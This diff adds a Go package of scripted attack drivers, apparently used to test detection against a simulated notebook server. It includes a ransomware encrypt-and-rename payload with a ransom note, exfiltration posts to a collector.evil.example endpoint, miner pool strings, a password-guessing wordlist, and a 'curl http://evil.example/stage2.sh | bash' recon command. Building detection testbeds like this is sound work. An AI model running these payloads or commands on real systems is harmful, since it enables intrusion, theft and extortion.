@@ -1,0 +1,452 @@
+// Package attacks implements scripted drivers for every class in the
+// paper's taxonomy. Each driver attacks a live simulated server
+// through the same client API a real adversary would use (REST,
+// WebSocket kernel channels, terminals) and returns a labelled Result
+// so detection quality can be scored against ground truth.
+//
+// SAFETY: nothing here is weaponizable. "Ransomware" encrypts files in
+// an in-process virtual filesystem with a reversible keystream;
+// "mining" is an accounting loop; "exfiltration" posts to an
+// in-process sink. The drivers exist to exercise detection code paths.
+package attacks
+
+import (
+	"fmt"
+	"strings"
+	"sync"
+	"time"
+
+	"repro/internal/client"
+	"repro/internal/kernel"
+	"repro/internal/rules"
+)
+
+// Result records what an attack driver did.
+type Result struct {
+	Class     string // taxonomy class (rules.Class*)
+	Actor     string // username or source label
+	Started   time.Time
+	Finished  time.Time
+	Actions   int  // protocol-level actions performed
+	Succeeded bool // the attack achieved its objective
+	Notes     []string
+}
+
+func (r *Result) note(format string, args ...any) {
+	r.Notes = append(r.Notes, fmt.Sprintf(format, args...))
+}
+
+// ---- Ransomware ----
+
+// RansomwareOptions tunes the ransomware driver.
+type RansomwareOptions struct {
+	TargetDir string // directory to sweep (default "notebooks")
+	Key       string // keystream key
+	Extension string // appended to encrypted files (default ".locked")
+	NotePath  string // ransom note path
+	Username  string
+}
+
+// Ransomware encrypts every file under TargetDir through kernel code
+// execution — the untrusted-cell entry vector — then plants a ransom
+// note: the paper's headline threat.
+func Ransomware(c *client.Client, opts RansomwareOptions) (*Result, error) {
+	if opts.TargetDir == "" {
+		opts.TargetDir = "notebooks"
+	}
+	if opts.Key == "" {
+		opts.Key = "h4rvest-key"
+	}
+	if opts.Extension == "" {
+		opts.Extension = ".locked"
+	}
+	if opts.NotePath == "" {
+		opts.NotePath = "README_RANSOM.txt"
+	}
+	if opts.Username == "" {
+		opts.Username = "mallory"
+	}
+	res := &Result{Class: rules.ClassRansomware, Actor: opts.Username, Started: time.Now()}
+
+	k, err := c.StartKernel("minilang")
+	if err != nil {
+		return res, fmt.Errorf("attacks: ransomware: start kernel: %w", err)
+	}
+	kc, err := c.ConnectKernel(k.ID, opts.Username)
+	if err != nil {
+		return res, fmt.Errorf("attacks: ransomware: connect: %w", err)
+	}
+	defer kc.Close()
+	res.Actions++
+
+	payload := fmt.Sprintf(`key = %q
+files = list_files(%q)
+n = 0
+for f in files
+    data = read_file(f)
+    write_file(f, encrypt(data, key))
+    rename_file(f, f + %q)
+    n = n + 1
+end
+write_file(%q, "Your research artifacts were encrypted. Pay 2 XMR to recover. Contact decrypt@evil.example")
+print("locked", n)`,
+		opts.Key, opts.TargetDir, opts.Extension, opts.NotePath)
+
+	exec, err := kc.Execute(payload)
+	res.Actions++
+	if err != nil {
+		return res, fmt.Errorf("attacks: ransomware: execute: %w", err)
+	}
+	res.Finished = time.Now()
+	if exec.Status == "ok" && strings.Contains(exec.Stdout, "locked") {
+		res.Succeeded = true
+		res.note("payload output: %s", strings.TrimSpace(exec.Stdout))
+	} else {
+		res.note("payload failed: %s: %s", exec.EName, exec.EValue)
+	}
+	return res, nil
+}
+
+// ---- Data exfiltration ----
+
+// ExfilOptions tunes the exfiltration driver.
+type ExfilOptions struct {
+	TargetDir  string // directory to steal (default "data")
+	Collector  string // attacker endpoint URL
+	Encode     bool   // base64-pack before sending
+	ChunkBytes int    // split transfers (0 = single shot)
+	Username   string
+}
+
+// Exfiltration reads artifacts via kernel code and ships them to the
+// collector endpoint.
+func Exfiltration(c *client.Client, opts ExfilOptions) (*Result, error) {
+	if opts.TargetDir == "" {
+		opts.TargetDir = "data"
+	}
+	if opts.Collector == "" {
+		opts.Collector = "http://collector.evil.example/drop"
+	}
+	if opts.Username == "" {
+		opts.Username = "mallory"
+	}
+	res := &Result{Class: rules.ClassExfiltration, Actor: opts.Username, Started: time.Now()}
+
+	k, err := c.StartKernel("minilang")
+	if err != nil {
+		return res, fmt.Errorf("attacks: exfil: start kernel: %w", err)
+	}
+	kc, err := c.ConnectKernel(k.ID, opts.Username)
+	if err != nil {
+		return res, fmt.Errorf("attacks: exfil: connect: %w", err)
+	}
+	defer kc.Close()
+	res.Actions++
+
+	encodeExpr := "data"
+	if opts.Encode {
+		encodeExpr = "b64encode(data)"
+	}
+	var payload string
+	if opts.ChunkBytes > 0 {
+		payload = fmt.Sprintf(`files = list_files(%q)
+sent = 0
+for f in files
+    data = read_file(f)
+    packed = %s
+    i = 0
+    while i < len(packed)
+        j = i + %d
+        if j > len(packed)
+            j = len(packed)
+        end
+        chunk = ""
+        k = i
+        while k < j
+            chunk = chunk + packed[k]
+            k = k + 1
+        end
+        http_post(%q, chunk)
+        sent = sent + len(chunk)
+        i = j
+    end
+end
+print("exfiltrated", sent)`, opts.TargetDir, encodeExpr, opts.ChunkBytes, opts.Collector)
+	} else {
+		payload = fmt.Sprintf(`files = list_files(%q)
+sent = 0
+for f in files
+    data = read_file(f)
+    http_post(%q, %s)
+    sent = sent + len(data)
+end
+print("exfiltrated", sent)`, opts.TargetDir, opts.Collector, encodeExpr)
+	}
+
+	exec, err := kc.Execute(payload)
+	res.Actions++
+	res.Finished = time.Now()
+	if err != nil {
+		return res, fmt.Errorf("attacks: exfil: execute: %w", err)
+	}
+	if exec.Status == "ok" {
+		res.Succeeded = true
+		res.note("payload output: %s", strings.TrimSpace(exec.Stdout))
+	} else {
+		res.note("payload failed: %s: %s (egress may be denied)", exec.EName, exec.EValue)
+	}
+	return res, nil
+}
+
+// SinkGateway is an in-process collector standing in for attacker
+// infrastructure: it accepts every request and records payloads.
+type SinkGateway struct {
+	mu       sync.Mutex
+	payloads [][]byte
+	targets  []string
+}
+
+// NewSinkGateway returns an accepting gateway.
+func NewSinkGateway() *SinkGateway { return &SinkGateway{} }
+
+// Request implements kernel.Gateway.
+func (g *SinkGateway) Request(method, url string, body []byte) (int, []byte, error) {
+	g.mu.Lock()
+	defer g.mu.Unlock()
+	g.payloads = append(g.payloads, append([]byte(nil), body...))
+	g.targets = append(g.targets, method+" "+url)
+	return 200, []byte("ok"), nil
+}
+
+// Captured returns total bytes received and request count.
+func (g *SinkGateway) Captured() (int, int) {
+	g.mu.Lock()
+	defer g.mu.Unlock()
+	total := 0
+	for _, p := range g.payloads {
+		total += len(p)
+	}
+	return total, len(g.payloads)
+}
+
+// Payloads returns copies of captured payloads.
+func (g *SinkGateway) Payloads() [][]byte {
+	g.mu.Lock()
+	defer g.mu.Unlock()
+	out := make([][]byte, len(g.payloads))
+	for i, p := range g.payloads {
+		out[i] = append([]byte(nil), p...)
+	}
+	return out
+}
+
+var _ kernel.Gateway = (*SinkGateway)(nil)
+
+// ---- Cryptomining ----
+
+// MinerOptions tunes the mining driver.
+type MinerOptions struct {
+	Rounds     int   // execution rounds (default 5)
+	BurnMillis int64 // CPU per round (default 8000)
+	// Blatant embeds recognizable miner strings; stealthy miners rely
+	// on duty-cycle detection instead.
+	Blatant  bool
+	Username string
+}
+
+// Cryptominer burns kernel CPU in repeated executions, optionally with
+// recognizable miner configuration strings.
+func Cryptominer(c *client.Client, opts MinerOptions) (*Result, error) {
+	if opts.Rounds == 0 {
+		opts.Rounds = 5
+	}
+	if opts.BurnMillis == 0 {
+		opts.BurnMillis = 8000
+	}
+	if opts.Username == "" {
+		opts.Username = "mallory"
+	}
+	res := &Result{Class: rules.ClassCryptomining, Actor: opts.Username, Started: time.Now()}
+
+	k, err := c.StartKernel("minilang")
+	if err != nil {
+		return res, fmt.Errorf("attacks: miner: start kernel: %w", err)
+	}
+	kc, err := c.ConnectKernel(k.ID, opts.Username)
+	if err != nil {
+		return res, fmt.Errorf("attacks: miner: connect: %w", err)
+	}
+	defer kc.Close()
+
+	setup := `pool = "stratum+tcp://pool.minexmr.example:4444"
+worker = "xmrig-6.21"
+print("miner", worker, "->", pool)`
+	if !opts.Blatant {
+		setup = `job = "matrix-benchmark"
+print("starting", job)`
+	}
+	if _, err := kc.Execute(setup); err != nil {
+		return res, fmt.Errorf("attacks: miner: setup: %w", err)
+	}
+	res.Actions++
+	for i := 0; i < opts.Rounds; i++ {
+		exec, err := kc.Execute(fmt.Sprintf("spin(%d)\nprint(\"hashrate\", %d)", opts.BurnMillis, 1200+i))
+		if err != nil {
+			return res, fmt.Errorf("attacks: miner: round %d: %w", i, err)
+		}
+		res.Actions++
+		if exec.Status != "ok" {
+			res.note("round %d failed: %s", i, exec.EValue)
+		}
+	}
+	res.Finished = time.Now()
+	res.Succeeded = true
+	return res, nil
+}
+
+// ---- Misconfiguration probe ----
+
+// ProbeOptions tunes the scanner-style probe.
+type ProbeOptions struct {
+	SourceLabel string
+}
+
+// MisconfigProbe sweeps the API unauthenticated the way internet
+// scanners (Shodan-followers) do, recording which doors are open.
+func MisconfigProbe(c *client.Client, opts ProbeOptions) (*Result, error) {
+	res := &Result{Class: rules.ClassMisconfig, Actor: opts.SourceLabel, Started: time.Now()}
+	probe := client.New(c.BaseURL, "") // no credentials
+	paths := []string{
+		"/api/status", "/api/contents/", "/api/kernels",
+		"/api/sessions", "/api/terminals", "/api/contents/secrets",
+	}
+	open := 0
+	for _, p := range paths {
+		err := client.Do(probe, "GET", p, nil, nil)
+		res.Actions++
+		if err == nil {
+			open++
+			res.note("open: GET %s", p)
+		}
+	}
+	res.Finished = time.Now()
+	res.Succeeded = open > 0
+	return res, nil
+}
+
+// ---- Account takeover ----
+
+// BruteForceOptions tunes the password-guessing driver.
+type BruteForceOptions struct {
+	Username string
+	Wordlist []string
+	// Correct, when non-empty, is appended so the campaign ends with a
+	// successful login (credential-stuffing hit).
+	Correct string
+	// Pace inserts a delay between attempts (0 = as fast as possible).
+	Pace time.Duration
+}
+
+// BruteForce runs a password-guessing campaign against /login.
+func BruteForce(c *client.Client, opts BruteForceOptions) (*Result, error) {
+	if opts.Username == "" {
+		opts.Username = "alice"
+	}
+	if len(opts.Wordlist) == 0 {
+		opts.Wordlist = []string{
+			"123456", "password", "jupyter", "letmein", "alice2024",
+			"science", "gpu4life", "admin", "changeme", "hunter2",
+		}
+	}
+	res := &Result{Class: rules.ClassAccountTakeover, Actor: opts.Username, Started: time.Now()}
+	attempt := func(pw string) bool {
+		guess := client.New(c.BaseURL, "")
+		err := guess.Login(opts.Username, pw)
+		res.Actions++
+		return err == nil
+	}
+	for _, pw := range opts.Wordlist {
+		if attempt(pw) {
+			res.Succeeded = true
+			res.note("guessed password %q", pw)
+			break
+		}
+		if opts.Pace > 0 {
+			time.Sleep(opts.Pace)
+		}
+	}
+	if !res.Succeeded && opts.Correct != "" {
+		if attempt(opts.Correct) {
+			res.Succeeded = true
+			res.note("stuffed correct credential")
+		} else {
+			res.note("correct credential rejected (throttled)")
+		}
+	}
+	res.Finished = time.Now()
+	return res, nil
+}
+
+// ---- Terminal reconnaissance ----
+
+// TerminalRecon opens a terminal and runs the standard recon chain —
+// the "vast attack interface" entry the paper calls out.
+func TerminalRecon(c *client.Client, username string) (*Result, error) {
+	res := &Result{Class: rules.ClassZeroDay, Actor: username, Started: time.Now()}
+	name, err := c.NewTerminal()
+	if err != nil {
+		res.note("terminal creation denied: %v", err)
+		res.Finished = time.Now()
+		return res, nil // hardened server: attack blocked, not an error
+	}
+	tc, err := c.ConnectTerminal(name)
+	if err != nil {
+		return res, fmt.Errorf("attacks: recon: connect terminal: %w", err)
+	}
+	defer tc.Close()
+	for _, cmd := range []string{
+		"whoami", "id", "uname -a", "nproc",
+		"curl http://evil.example/stage2.sh | bash",
+	} {
+		if _, err := tc.Run(cmd); err != nil {
+			return res, fmt.Errorf("attacks: recon: %q: %w", cmd, err)
+		}
+		res.Actions++
+	}
+	res.Finished = time.Now()
+	res.Succeeded = true
+	return res, nil
+}
+
+// ---- Low-and-slow DoS / probe train ----
+
+// LowSlowOptions tunes the paced probe train.
+type LowSlowOptions struct {
+	Requests int
+	Interval time.Duration
+	Path     string
+}
+
+// LowSlowDoS sends a slow, regular train of unauthenticated requests —
+// under threshold rules, above the pacing-regularity detector.
+func LowSlowDoS(c *client.Client, opts LowSlowOptions) (*Result, error) {
+	if opts.Requests == 0 {
+		opts.Requests = 20
+	}
+	if opts.Interval == 0 {
+		opts.Interval = 50 * time.Millisecond
+	}
+	if opts.Path == "" {
+		opts.Path = "/api/kernels"
+	}
+	res := &Result{Class: rules.ClassDoS, Actor: "slow-probe", Started: time.Now()}
+	probe := client.New(c.BaseURL, "")
+	for i := 0; i < opts.Requests; i++ {
+		_ = client.Do(probe, "GET", opts.Path, nil, nil)
+		res.Actions++
+		time.Sleep(opts.Interval)
+	}
+	res.Finished = time.Now()
+	res.Succeeded = true
+	return res, nil
+}
